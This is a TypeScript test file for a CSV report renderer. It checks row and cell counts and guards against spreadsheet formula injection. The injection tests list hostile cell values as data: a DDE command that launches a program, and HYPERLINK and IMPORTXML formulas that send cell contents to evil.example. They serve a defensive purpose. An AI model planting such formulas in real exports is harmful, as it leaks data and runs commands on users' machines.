import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { renderCsv } from '../../reports/csv.ts'
import { runResult } from '../fixtures/run-result.ts'

const run = runResult()

/** An RFC 4180 reader. */
function parse(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let at = 0; at < text.length; at++) {
    const character = text[at] ?? ''
    if (quoted) {
      if (character !== '"') cell += character
      else if (text[at + 1] === '"') cell += text[at++]
      else quoted = false
    } else if (character === '"' && cell === '') quoted = true
    else if (character === separator) {
      rows.at(-1)?.push(cell)
      cell = ''
    } else if (text.startsWith('\r\n', at)) {
      rows.at(-1)?.push(cell)
      cell = ''
      at++
      if (at + 1 < text.length) rows.push([])
    } else cell += character
  }
  return rows
}

/** The name of a counter, written to a file and read back. */
function throughCounters(name: string): string[] {
  const [, row = []] = parse(renderCsv({ ...run, counters: { [name]: 7 }, classes: {} })['counters.csv'])
  return row
}

describe('the CSV files of a run', () => {
  const files = renderCsv(run)

  it('hold every metric, second and counter, one a row, under a heading', () => {
    const { metrics, series, counters, classes } = run
    const classCount = Object.values(classes).flatMap(Object.keys).length
    expect(parse(files['metrics.csv'])).toHaveLength(1 + Object.keys(metrics).length)
    expect(parse(files['series.csv'])).toHaveLength(1 + series.length)
    expect(parse(files['counters.csv'])).toHaveLength(1 + Object.keys(counters).length + classCount)
    expect(parse(files['counters.csv'])).toContainEqual(['connections_closed', 'closed-by-harness', '1000'])
  })

  it.each(['metrics.csv', 'series.csv', 'counters.csv'] as const)('%s has as many cells in each row', (name) => {
    const rows = parse(files[name])
    expect(new Set(rows.map((row) => row.length)).size).toBe(1)
    expect(files[name]).not.toMatch(/[^\r]\n/)
  })

  it('write figures as they are stored, and leave out what is none', () => {
    const metric = run.metrics['delivery_latency']
    const delivery = { ...metric!, p99: 'infinite' as const, p999: null }
    const rows = parse(renderCsv({ ...run, metrics: { delivery_latency: delivery } })['metrics.csv'])
    const [heading = [], row = []] = rows
    const cell = (name: string) => row[heading.indexOf(name)]
    expect([cell('unit'), cell('p50'), cell('p99'), cell('p999')]).toEqual(['us', String(metric!.p50), 'infinite', ''])
  })

  it('of a run that measured nothing are headings', () => {
    const nothing = renderCsv({ ...run, metrics: {}, series: [], counters: {}, classes: {} })
    for (const text of Object.values(nothing)) expect(parse(text)).toHaveLength(1)
  })
})

describe('a cell that starts like a formula', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '+1+1',
    '-2+3+cmd',
    '-1-',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＠SUM(1)',
    '--5',
    '+5',
    '-',
    '=',
  ])('is text: %j', (name) => {
    expect(throughCounters(name)[0]).toMatch(/^'|^\n'/)
  })

  it.each(['a;=1+1', 'a,=1+1', 'a\t=1+1', 'a\n=1+1', 'a"=1+1', '";=1+1;"'])(
    'is text where a spreadsheet splits otherwise: %j',
    (name) => {
      for (const part of (throughCounters(name)[0] ?? '').split(/[;,\t\n"]/)) expect(part).not.toMatch(/^[=+\-@]/)
    },
  )

  it.each(['-5', '3.25', '-0.001', 'deliveries_lost', 'http-status 403', 'a-b', "it's"])('is none: %j', (name) => {
    expect(throughCounters(name)[0]).toBe(name)
  })

  it('whatever the text, one cell stays one cell, and none starts a formula', () => {
    const parts = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', "'", 'a', '1', '＝')
    const names = fc.array(parts, { minLength: 1, maxLength: 12 }).map((list) => list.join(''))
    fc.assert(
      fc.property(names, (name) => {
        const row = throughCounters(name)
        expect(row.slice(1)).toEqual(['', '7'])
        if (!/^-?\d+(\.\d+)?$/.test(name)) expect(row[0]).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
        expect(row[0]?.replaceAll("'", '')).toBe(name.replaceAll("'", ''))
      }),
      { numRuns: 2000 },
    )
  })
})
